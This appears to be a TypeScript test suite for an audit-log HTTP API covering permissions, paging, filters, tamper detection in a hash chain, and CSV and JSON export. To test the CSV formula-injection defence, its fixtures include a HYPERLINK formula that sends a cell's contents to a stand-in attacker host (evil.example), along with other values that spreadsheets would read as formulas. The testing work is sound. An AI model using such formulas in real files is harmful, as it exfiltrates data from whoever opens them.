// The audit routes through HTTP with real sign-in, on both database engines: who may call them, the
// list's paging and filters, verification of an intact and a tampered chain (with checkpoints), the CSV
// export (contents, quoting, formula defence, filters, paging, a failure part-way), and the 400s that
// name the wrong parameter.
import assert from "node:assert/strict";
import { appendAudit } from "../../../api/src/audit/appendAudit.js";
import { auditCsvColumns } from "../../../api/src/audit/auditCsv.js";
import type { AuditActor, AuditEntry, AuditRecord } from "../../../api/src/audit/auditRecord.js";
import { auditRoutes } from "../../../api/src/audit/auditRoutes.js";
import { canonicalJson } from "../../../api/src/audit/canonicalJson.js";
import { verifyAuditChain } from "../../../api/src/audit/verifyAuditChain.js";
import type { Database } from "../../../api/src/db/database.js";
import { startApi, userToken, type RunningApi } from "../../support/apiServer.js";
import { startSim, type RunningSim } from "../../support/simServer.js";
import { bypassingTriggers, describeEachDatabase } from "../../support/testDatabases.js";

const tenantId = "4d3c2b1a-6f5e-4a7b-9c8d-0e1f2a3b4c5d";
const alice: AuditActor = { tenantId, objectId: "oid-alice", upn: "alice@contoso.com" };
const bob: AuditActor = { tenantId, objectId: "oid-bob", upn: "bob@contoso.com" };
/** Someone whose names a spreadsheet would read as formulas. */
const mallory: AuditActor = { tenantId: "\tt", objectId: "oid-mallory", upn: "-2+3@contoso.com" };
const m1 = "<m1@contoso.com>";
const m2 = "<m2@contoso.com>";
const hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"click")';

/** Records 1 to 5, in order. */
const entries: AuditEntry[] = [
  {
    actor: alice,
    action: "retraction.requested",
    subject: { internetMessageId: m1, mailbox: "adele@contoso.com" },
    details: { reason: 'phishing, reported by "Ann"', targets: 3 },
  },
  { actor: bob, action: "retraction.approved", subject: { internetMessageId: m1 } },
  {
    actor: alice,
    action: "retraction.target.completed",
    subject: { internetMessageId: m2, mailbox: "lee@contoso.com" },
    details: { outcome: "softDeleted", graphRequestIds: ["req-1"] },
  },
  { actor: bob, action: hyperlink, subject: { internetMessageId: m2 }, details: { note: "@SUM(A1)" } },
  {
    actor: mallory,
    action: "\rcmd",
    subject: { internetMessageId: "<m3@contoso.com>" },
    details: { note: "line 1\nline 2" },
  },
];

type Page = { records: AuditRecord[]; nextBeforeSeq: number | null };
type ErrorBody = { error: { code: string; message: string } };

/** The API's database, counting the audit queries the routes make and failing them on demand. */
function observed(db: Database) {
  const seen = { auditQueries: [] as unknown[][], failFrom: Infinity };
  const wrapper: Database = {
    kind: db.kind,
    query: async <Row>(sql: string, params?: unknown[]) => {
      if (/FROM audit_log/.test(sql)) {
        seen.auditQueries.push(params ?? []);
        if (seen.auditQueries.length >= seen.failFrom) throw new Error("the database went away");
      }
      return db.query<Row>(sql, params);
    },
    transaction: (fn) => db.transaction(fn),
    close: () => db.close(),
  };
  return { wrapper, seen };
}

/** RFC 4180 reader for the tests: rows of unquoted cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (!match) throw new Error(`not CSV at ${cell.lastIndex}`);
    const raw = match[1]!;
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (match[2] !== ",") {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describeEachDatabase("auditRoutes → GET /api/audit, /api/audit/verify, /api/audit/export", (current) => {
  let sim: RunningSim;
  let api: RunningApi;
  let admin: string;
  let helpdesk: string;
  let records: AuditRecord[];
  let seen: ReturnType<typeof observed>["seen"];
  const now = Date.UTC(2025, 5, 30, 23, 59, 0);

  before(async () => {
    sim = await startSim();
    api = await startApi(sim, {
      db: current().db,
      now: () => now,
      routes: (services) => {
        const db = observed(services.db);
        seen = db.seen;
        return [auditRoutes({ ...services, db: db.wrapper }, { exportPageSize: 2 })];
      },
    });
    [admin, helpdesk] = await Promise.all([
      userToken(sim, "admin@contoso.com"),
      userToken(sim, "helpdesk@contoso.com"),
    ]);
    records = [];
    for (const entry of entries) {
      records.push(await api.services.db.transaction((tx) => appendAudit(tx, entry)));
    }
  });
  after(async () => {
    await api?.close();
    await sim?.close();
  });
  beforeEach(() => {
    seen.auditQueries = [];
    seen.failFrom = Infinity;
  });

  const get = (path: string, token = admin) => api.call(path, token);
  const seqs = (page: unknown) => (page as Page).records.map((record) => record.seq);
  const newestFirst = () => [...records].reverse();

  describe("access", () => {
    for (const path of ["/api/audit", "/api/audit/verify", "/api/audit/export?format=csv"]) {
      it(`${path} as helpdesk (Holds.Read only) → 403 FORBIDDEN naming Audit.Read`, async () => {
        const { status, body } = await get(path, helpdesk);
        assert.equal(status, 403);
        assert.equal((body as ErrorBody).error.code, "FORBIDDEN");
        assert.match((body as ErrorBody).error.message, /Audit\.Read/);
      });
    }

    it("a token that is not one → 401", async () => {
      const { status } = await get("/api/audit", "not-a-token");
      assert.equal(status, 401);
    });
  });

  describe("GET /api/audit", () => {
    it("no parameters → every record newest first, exactly as appended, nextBeforeSeq null", async () => {
      const { status, body, headers } = await get("/api/audit");
      assert.equal(status, 200);
      assert.deepEqual(body, { records: newestFirst(), nextBeforeSeq: null });
      assert.equal(headers.get("cache-control"), "no-store");
    });

    it("limit=2, then beforeSeq=nextBeforeSeq → 5,4 then 3,2 then 1, the last page with null", async () => {
      const first = await get("/api/audit?limit=2");
      assert.deepEqual(seqs(first.body), [5, 4]);
      assert.equal((first.body as Page).nextBeforeSeq, 4);
      const second = await get("/api/audit?limit=2&beforeSeq=4");
      assert.deepEqual(seqs(second.body), [3, 2]);
      assert.equal((second.body as Page).nextBeforeSeq, 2);
      const third = await get("/api/audit?limit=2&beforeSeq=2");
      assert.deepEqual(seqs(third.body), [1]);
      assert.equal((third.body as Page).nextBeforeSeq, null);
    });

    it("a full page that is also the last one → nextBeforeSeq null (no empty page to fetch)", async () => {
      const { body } = await get(`/api/audit?limit=2&actorObjectId=${alice.objectId}`);
      assert.deepEqual(seqs(body), [3, 1]);
      assert.equal((body as Page).nextBeforeSeq, null);
    });

    it("messageId → only records about that message", async () => {
      const { body } = await get(`/api/audit?messageId=${encodeURIComponent(m1)}`);
      assert.deepEqual(seqs(body), [2, 1]);
    });

    it("messageId without its angle brackets → the same records, as elsewhere in the API", async () => {
      const { body } = await get("/api/audit?messageId=m1@contoso.com");
      assert.deepEqual(seqs(body), [2, 1]);
    });

    it("actorObjectId → only that person's records", async () => {
      const { body } = await get(`/api/audit?actorObjectId=${bob.objectId}`);
      assert.deepEqual(seqs(body), [4, 2]);
    });

    it("messageId and actorObjectId together → records matching both", async () => {
      const { body } = await get(
        `/api/audit?messageId=${encodeURIComponent(m2)}&actorObjectId=${bob.objectId}`
      );
      assert.deepEqual(seqs(body), [4]);
    });

    it("filters matching nothing → no records, nextBeforeSeq null", async () => {
      const { status, body } = await get("/api/audit?actorObjectId=oid-nobody");
      assert.equal(status, 200);
      assert.deepEqual(body, { records: [], nextBeforeSeq: null });
    });

    const badQueries: [string, string, RegExp][] = [
      ["limit=0", "limit", />=1/],
      ["limit=501", "limit", /<=500/],
      ["limit=ten", "limit", /expected number/],
      ["limit=1.5", "limit", /expected int/],
      ["beforeSeq=0", "beforeSeq", />=1/],
      ["beforeSeq=-3", "beforeSeq", />=1/],
      ["messageId=", "messageId", /expected an Internet Message-ID/],
      ["messageId=a%20b", "messageId", /expected an Internet Message-ID/],
      ["actorObjectId=", "actorObjectId", />=1 characters/],
    ];
    for (const [query, field, why] of badQueries) {
      it(`?${query} → 400 INVALID_INPUT naming the query parameter "${field}"`, async () => {
        const { status, body } = await get(`/api/audit?${query}`);
        assert.equal(status, 400);
        assert.equal((body as ErrorBody).error.code, "INVALID_INPUT");
        assert.match((body as ErrorBody).error.message, new RegExp(`^Invalid query parameter "${field}": `));
        assert.match((body as ErrorBody).error.message, why);
      });
    }
  });

  describe("GET /api/audit/verify", () => {
    it("an intact chain → { ok: true, count: 5, head: the last record's seq and hash }", async () => {
      const { status, body, headers } = await get("/api/audit/verify");
      assert.equal(status, 200);
      assert.deepEqual(body, { ok: true, count: 5, head: { seq: 5, hash: records[4]!.hash } });
      assert.equal(headers.get("cache-control"), "no-store");
    });

    it("a record changed behind the triggers → ok false, firstBad names it and why, count/head the intact part", async () => {
      // Arrange
      const original = canonicalJson(records[2]!.details);
      await bypassingTriggers(
        api.services.db,
        `UPDATE audit_log SET details = '{"outcome":"kept"}' WHERE seq = 3`
      );
      try {
        // Act
        const { status, body } = await get("/api/audit/verify");
        // Assert
        assert.equal(status, 200);
        assert.deepEqual(body, {
          ok: false,
          count: 2,
          head: { seq: 2, hash: records[1]!.hash },
          firstBad: { seq: 3, reason: "changed after it was written (its content does not match its hash)" },
        });
        // What audit:verify prints comes from the same verification.
        assert.deepEqual(body, await verifyAuditChain(api.services.db));
      } finally {
        await bypassingTriggers(
          api.services.db,
          `UPDATE audit_log SET details = '${original}' WHERE seq = 3`
        );
      }
      assert.equal(((await get("/api/audit/verify")).body as { ok: boolean }).ok, true);
    });

    it("a record whose link was rewritten → firstBad says it does not link to the one before", async () => {
      await bypassingTriggers(
        api.services.db,
        `UPDATE audit_log SET prev_hash = repeat('a', 64) WHERE seq = 4`
      );
      try {
        const { body } = await get("/api/audit/verify");
        assert.deepEqual((body as { firstBad: unknown }).firstBad, {
          seq: 4,
          reason: "does not link to record 3 (its previous hash differs)",
        });
      } finally {
        await bypassingTriggers(
          api.services.db,
          `UPDATE audit_log SET prev_hash = '${records[2]!.hash}' WHERE seq = 4`
        );
      }
    });

    it("checkpoint=SEQ:HASH of a record (hash in upper case) → ok true", async () => {
      const { body } = await get(`/api/audit/verify?checkpoint=3:${records[2]!.hash.toUpperCase()}`);
      assert.deepEqual(body, { ok: true, count: 5, head: { seq: 5, hash: records[4]!.hash } });
    });

    it("a checkpoint whose hash differs → firstBad at the checkpoint's record, the log rewritten up to there", async () => {
      const { body } = await get(`/api/audit/verify?checkpoint=3:${"c".repeat(64)}`);
      assert.deepEqual(body, {
        ok: false,
        count: 2,
        head: { seq: 2, hash: records[1]!.hash },
        firstBad: {
          seq: 3,
          reason: "its hash differs from the checkpoint's (the log was rewritten up to here)",
        },
      });
    });

    it("a checkpoint beyond the log's end → firstBad at the first missing record", async () => {
      const { body } = await get(`/api/audit/verify?checkpoint=9:${"c".repeat(64)}`);
      assert.equal((body as { ok: boolean }).ok, false);
      assert.deepEqual((body as { firstBad: { seq: number } }).firstBad.seq, 6);
      assert.match(
        (body as { firstBad: { reason: string } }).firstBad.reason,
        /^missing: the checkpoint is at record 9 but the log ends at record 5/
      );
    });

    for (const checkpoint of ["3", `0:${"a".repeat(64)}`, "3:abc", `3:${"g".repeat(64)}`]) {
      it(`checkpoint=${checkpoint.slice(0, 12)}… → 400 naming "checkpoint" and its form`, async () => {
        const { status, body } = await get(`/api/audit/verify?checkpoint=${checkpoint}`);
        assert.equal(status, 400);
        assert.equal(
          (body as ErrorBody).error.message,
          'Invalid query parameter "checkpoint": expected SEQ:HASH (seq from 1, a 64-digit hex hash).'
        );
      });
    }
  });

  describe("GET /api/audit/export?format=csv", () => {
    it("→ an attachment named after today's date, text/csv in UTF-8, not cached", async () => {
      const { status, headers } = await get("/api/audit/export?format=csv");
      assert.equal(status, 200);
      assert.equal(headers.get("content-type"), "text/csv; charset=utf-8; header=present");
      assert.equal(headers.get("content-disposition"), 'attachment; filename="audit-2025-06-30.csv"');
      assert.equal(headers.get("cache-control"), "no-store");
    });

    it("→ a header row, then every record newest first, one cell per field, JSON compact", async () => {
      const { text } = await get("/api/audit/export?format=csv");
      const [header, ...rows] = parseCsv(text);
      assert.deepEqual(header, [...auditCsvColumns]);
      assert.deepEqual(
        rows.map((row) => row[0]),
        ["5", "4", "3", "2", "1"]
      );
      const first = rows[4]!;
      assert.deepEqual(first, [
        "1",
        records[0]!.at,
        tenantId,
        "oid-alice",
        "alice@contoso.com",
        "retraction.requested",
        '{"internetMessageId":"<m1@contoso.com>","mailbox":"adele@contoso.com"}',
        '{"reason":"phishing, reported by \\"Ann\\"","targets":3}',
        "0".repeat(64),
        records[0]!.hash,
      ]);
      assert.ok(text.endsWith("\r\n"));
    });

    it("quotes, commas and line breaks → RFC 4180 quoting on the wire", async () => {
      const { text } = await get("/api/audit/export?format=csv");
      const lines = text.split("\r\n");
      const record1 = lines.find((line) => line.startsWith("1,"))!;
      assert.match(record1, /,"\{""reason"":""phishing, reported by \\""Ann\\"""",""targets"":3\}",/);
      // A line break inside a cell stays inside its quotes (JSON writes it as \n, the CR of the action raw).
      assert.ok(text.includes(`,"'\rcmd",`));
    });

    it("cells starting with = + - @ tab or CR → prefixed with a single quote", async () => {
      const { text } = await get("/api/audit/export?format=csv");
      const rows = parseCsv(text);
      const byMallory = rows.find((row) => row[0] === "5")!;
      assert.equal(byMallory[2], "'\tt");
      assert.equal(byMallory[4], "'-2+3@contoso.com");
      assert.equal(byMallory[5], "'\rcmd");
      const byBob = rows.find((row) => row[0] === "4")!;
      assert.equal(byBob[5], `'${hyperlink}`);
      // JSON cells start with "{": their contents cannot start a formula.
      assert.equal(byBob[7], '{"note":"@SUM(A1)"}');
    });

    it("messageId and actorObjectId → only the matching records", async () => {
      const byMessage = parseCsv(
        (await get(`/api/audit/export?format=csv&messageId=${encodeURIComponent(m2)}`)).text
      );
      assert.deepEqual(
        byMessage.slice(1).map((row) => row[0]),
        ["4", "3"]
      );
      const byActor = parseCsv(
        (await get(`/api/audit/export?format=csv&actorObjectId=${bob.objectId}`)).text
      );
      assert.deepEqual(
        byActor.slice(1).map((row) => row[0]),
        ["4", "2"]
      );
    });

    it("beforeSeq → only older records", async () => {
      const rows = parseCsv((await get("/api/audit/export?format=csv&beforeSeq=3")).text);
      assert.deepEqual(
        rows.slice(1).map((row) => row[0]),
        ["2", "1"]
      );
    });

    it("nothing matching → the header row alone", async () => {
      const { status, text } = await get("/api/audit/export?format=csv&actorObjectId=oid-nobody");
      assert.equal(status, 200);
      assert.equal(text, `${auditCsvColumns.join(",")}\r\n`);
    });

    it("5 records with pages of 2 → read in 3 queries of 2, each below the last seq sent", async () => {
      await get("/api/audit/export?format=csv");
      assert.deepEqual(seen.auditQueries, [[2], [4, 2], [2, 2]]);
    });

    it("the database failing part-way → the transfer is cut off, not ended as if complete", async () => {
      seen.failFrom = 2;
      await assert.rejects(get("/api/audit/export?format=csv"), (err: Error) => {
        // undici reports a chunked body that stops without its last chunk as "terminated".
        assert.equal(err.message, "terminated");
        return true;
      });
    });

    it("the database failing before the first page → 500 with a JSON error", async () => {
      seen.failFrom = 1;
      const { status, body } = await get("/api/audit/export?format=csv");
      assert.equal(status, 500);
      assert.equal((body as ErrorBody).error.code, "INTERNAL_ERROR");
    });

    for (const query of ["", "?format=xml", "?format=CSV", "?format=csv&format=csv"]) {
      it(`${query || "no format"} → 400 naming "format" and the allowed values`, async () => {
        const { status, body } = await get(`/api/audit/export${query}`);
        assert.equal(status, 400);
        assert.equal((body as ErrorBody).error.code, "INVALID_INPUT");
        assert.match((body as ErrorBody).error.message, /^Invalid query parameter "format": .*"csv".*"json"/);
      });
    }

    it("a bad filter → 400 naming it", async () => {
      const { status, body } = await get("/api/audit/export?format=csv&beforeSeq=zero");
      assert.equal(status, 400);
      assert.match((body as ErrorBody).error.message, /^Invalid query parameter "beforeSeq": /);
    });
  });

  describe("GET /api/audit/export?format=json", () => {
    it("→ a JSON attachment: every record newest first, as the list gives them, hashes included", async () => {
      const { status, headers, text } = await get("/api/audit/export?format=json");
      assert.equal(status, 200);
      assert.equal(headers.get("content-type"), "application/json; charset=utf-8");
      assert.equal(headers.get("content-disposition"), 'attachment; filename="audit-2025-06-30.json"');
      const records = JSON.parse(text) as { seq: number; hash: string }[];
      assert.deepEqual(
        records.map((r) => r.seq),
        [5, 4, 3, 2, 1]
      );
      const listed = (await get("/api/audit?limit=500")).body as { records: unknown[] };
      assert.deepEqual(records, listed.records);
      assert.ok(records.every((r) => /^[0-9a-f]{64}$/.test(r.hash)));
    });

    it("with a filter → only the matching records, still one JSON array", async () => {
      const records = JSON.parse((await get("/api/audit/export?format=json&beforeSeq=3")).text) as {
        seq: number;
      }[];
      assert.deepEqual(
        records.map((r) => r.seq),
        [2, 1]
      );
      assert.deepEqual(
        JSON.parse((await get("/api/audit/export?format=json&actorObjectId=oid-nobody")).text),
        []
      );
    });
  });

  describe("GET /api/openapi.json", () => {
    it("→ the three routes with Audit.Read, their query parameters and text/csv for the export", async () => {
      const document = (await (await fetch(`${api.base}/api/openapi.json`)).json()) as {
        paths: Record<string, { get: Record<string, unknown> }>;
      };
      const names = (path: string) =>
        (document.paths[path]!.get.parameters as { name: string }[]).map((p) => p.name);
      for (const path of ["/api/audit", "/api/audit/verify", "/api/audit/export"]) {
        assert.deepEqual(document.paths[path]?.get["x-required-roles"], ["Audit.Read"]);
      }
      assert.deepEqual(names("/api/audit"), ["limit", "beforeSeq", "messageId", "actorObjectId"]);
      assert.deepEqual(names("/api/audit/verify"), ["checkpoint"]);
      assert.deepEqual(names("/api/audit/export"), ["format", "beforeSeq", "messageId", "actorObjectId"]);
      const exported = document.paths["/api/audit/export"]!.get.responses as Record<
        string,
        { content: Record<string, unknown> }
      >;
      assert.deepEqual(Object.keys(exported["200"]!.content), ["text/csv"]);
    });
  });
});
